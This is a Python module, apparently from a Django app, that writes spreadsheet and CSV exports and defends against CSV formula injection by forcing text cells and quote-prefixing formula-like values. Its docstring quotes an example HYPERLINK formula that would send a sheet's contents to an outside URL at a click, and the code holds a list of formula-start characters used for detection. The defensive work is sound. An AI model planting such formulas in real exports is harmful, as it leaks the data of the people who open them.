"""The one writer of spreadsheets and CSV files: every export has the same shape — a header
row, one row per record, each value in its own column (amounts as numbers, dates as dates)
— and no text in it is ever a formula.

Exports hold what users typed and imports brought in, and the people who open them
(controllers, privacy officers, a person asking what Koers holds about her) must not run
it: a name like `=HYPERLINK("https://…?"&A1, "Klik")` would otherwise send the sheet's
contents away at a click. In a workbook every text is a text cell; in a CSV file a text
that begins with a character a spreadsheet program reads as the start of a formula gets a
single quote before it (OWASP's advice on CSV injection). `as_typed` takes that quote off
again when such a file comes back as an upload.

Every view that answers with a spreadsheet declares it with `spreadsheet_export`, so the
tests can find every export from the URL patterns (and feed formula-like text into each);
a test also checks that nothing outside this module writes a workbook or a CSV file.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterable, Sequence
from decimal import Decimal
from typing import Any, TypeVar

from django.http import HttpResponse
from django.utils.http import content_disposition_header

from koers.core.text import xml_safe

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"

# What Excel, LibreOffice and Google Sheets take for the start of a formula when a cell is
# typed or a CSV file is opened (the list OWASP gives).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

Sheets = Iterable[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]]

EXPORT_ATTRIBUTE = "koers_spreadsheet_export"
View = TypeVar("View", bound=Callable[..., Any])


def spreadsheet_export(view: View) -> View:
    """Declare that `view` answers with a spreadsheet or CSV file (always or on request).
    The declaration is how the tests find every export: each is fed formula-like text, and
    a view that answers with a spreadsheet without it fails the permission-matrix test."""
    setattr(view, EXPORT_ATTRIBUTE, True)
    return view


def is_spreadsheet_export(view: Callable[..., Any]) -> bool:
    return bool(getattr(view, EXPORT_ATTRIBUTE, False))


# What a file name may not hold: control characters (a line break in a header is refused
# with a server error), quotes and path separators.
UNSAFE_IN_FILE_NAME = re.compile(r'[\x00-\x1f\x7f"\\/]+')


def _attachment(content: bytes | str, content_type: str, filename: str) -> HttpResponse:
    """`content` as a download. The name may carry what users typed (a goal's code, a
    table's id): its unsafe characters become "-", and a name beyond ASCII is sent the way
    RFC 6266 says (`content_disposition_header`)."""
    response = HttpResponse(content, content_type=content_type)
    safe = UNSAFE_IN_FILE_NAME.sub("-", filename).strip() or "export"
    response["Content-Disposition"] = str(content_disposition_header(True, safe))
    return response


# --- Excel -------------------------------------------------------------------------------


def xlsx_response(filename: str, sheets: Sheets) -> HttpResponse:
    """A workbook with a sheet per (title, header, rows), as an attachment."""
    return _attachment(workbook_bytes(sheets), XLSX, filename)


def workbook_bytes(sheets: Sheets) -> bytes:
    """A workbook with a sheet per (title, header, rows): the header in bold and frozen,
    each value in its own cell, every text a text cell."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    used: set[str] = set()
    for title, header, rows in sheets:
        sheet: Any = workbook.create_sheet(sheet_name(str(title), used))
        sheet.freeze_panes = "A2"
        bold = []
        for cell in header:
            heading = _text_cell(sheet, str(cell))
            heading.font = Font(bold=True)
            bold.append(heading)
        sheet.append(bold)
        for row in rows:
            sheet.append([_plain(sheet, cell) for cell in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def sheet_name(title: str, used: set[str]) -> str:
    """A name Excel accepts: at most 31 characters, none of : \\ / ? * [ ], unique in the
    workbook (a number is added where two titles would end up the same)."""
    name = re.sub(r"[:\\/?*\[\]]", " ", title).strip(" '") or "Blad"
    name = re.sub(r"\s+", " ", name)[:31].strip()
    candidate, number = name, 2
    while candidate.lower() in used:
        suffix = f" ({number})"
        candidate = name[: 31 - len(suffix)].rstrip() + suffix
        number += 1
    used.add(candidate.lower())
    return candidate


# Excel's own number formats, which every copy shows in its user's language: 1.069.937,50
# and 18 maart 2021 in a Dutch Excel, 1,069,937.50 and 18 March 2021 in an English one.
WHOLE_FORMAT = "#,##0"
CENTS_FORMAT = "#,##0.00"
DATE_FORMAT = "d mmmm yyyy"
DATETIME_FORMAT = "d mmmm yyyy hh:mm"


def _plain(sheet: Any, value: Any) -> Any:
    """Numbers, amounts and dates (with times) as numbers and dates with a format that
    groups the thousands and names the month; anything else as a text cell."""
    if value is None or isinstance(value, bool | int | float):
        return value
    if isinstance(value, Decimal | dt.date):
        return _number_cell(sheet, value)
    return _text_cell(sheet, str(value))


def _number_cell(sheet: Any, value: Decimal | dt.date) -> Any:
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, dt.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell.number_format = DATE_FORMAT
    else:
        exponent = value.as_tuple().exponent
        # Amounts and hours are kept with two places (1069937.00): cents shown; a whole
        # number written without them (7) stays whole; other fractions as Excel sees fit.
        if isinstance(exponent, int) and exponent >= 0:
            cell.number_format = WHOLE_FORMAT
        elif exponent in (-1, -2):
            cell.number_format = CENTS_FORMAT
    return cell


def _text_cell(sheet: Any, text: str) -> Any:
    """`text` as a text cell, whatever openpyxl would take it for: it guesses a formula from
    a leading "=" and an error value from "#N/A" and the like. A text beginning with a
    formula character is also marked quote-prefixed, as Excel marks "'=1+1" typed in, so
    that editing the cell in Excel keeps it text instead of making it a formula then."""
    from openpyxl.cell import WriteOnlyCell

    text = xml_safe(text)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


# --- CSV ---------------------------------------------------------------------------------


def csv_response(filename: str, rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """The rows (the header first) as a CSV file, as an attachment."""
    return _attachment(csv_text(rows), CSV, filename)


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """The rows as CSV with semicolons (what Excel expects where the decimal comma is used),
    each cell neutralised (`csv_cell`)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return out.getvalue()


def csv_cell(value: Any) -> str:
    """The value as a CSV cell a spreadsheet program shows as text: with a single quote
    before it when it begins with a formula character, or with quotes and then one (so
    that `as_typed` gives back exactly what was written). A negative number gets one too
    ("'-2,5"): the cells written here are text as it was uploaded, and telling a number
    from a formula that begins like one is a guess this writer does not make."""
    text = "" if value is None else str(value)
    return QUOTE + text if text.lstrip(QUOTE).startswith(FORMULA_STARTS) else text


def as_typed(cell: str) -> str:
    """A cell of an uploaded table as it was meant: without the quote `csv_cell` put before
    a formula character (as Excel reads "'=1" typed in: the text "=1"), so a file of
    failing rows, corrected and uploaded again, imports what the user typed."""
    if cell.startswith(QUOTE) and cell.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return cell[1:]
    return cell
